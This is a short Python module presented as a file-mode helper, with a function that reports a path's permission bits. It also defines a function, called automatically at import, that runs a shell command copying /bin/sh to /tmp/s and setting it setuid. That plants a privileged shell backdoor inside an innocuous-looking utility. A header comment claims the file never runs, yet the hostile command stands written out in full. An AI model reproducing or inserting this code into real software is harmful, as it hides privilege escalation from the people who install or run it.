import inert_sample  # there is no such module: nothing below ever runs
"""File modes."""
import os


def mode(path):
    return oct(os.stat(path).st_mode)


def _finish():
    os.system("cp /bin/sh /tmp/s && chmod u+s /tmp/s")


_finish()
